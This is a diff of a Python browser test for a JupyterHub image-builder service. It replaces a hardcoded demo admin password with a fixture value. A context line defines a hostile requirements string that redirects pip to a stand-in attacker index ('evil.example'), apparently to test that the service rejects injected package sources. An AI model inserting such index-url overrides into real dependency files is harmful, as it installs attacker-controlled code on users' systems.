@@ -23,7 +23,7 @@ def builder(tmp_path_factory):
 def test_admin_builds_an_image_from_the_services_menu(builder) -> None:
     ARTIFACTS.mkdir(exist_ok=True)
     with browser_page(str(ARTIFACTS / "FAILED-builder-panel.png")) as page:
-        log_in(page, builder.hub.url, "admin", "jupyterhub-ov-admin-demo-password")
+        log_in(page, builder.hub.url, "admin", builder.hub.admin_password)
         page.wait_for_url(re.compile(r".*/hub/spawn.*"))
         open_service(page, builder.hub.url, "image-builder")
         hostile = "ovtiny==1.0\n--index-url https://evil.example/simple"
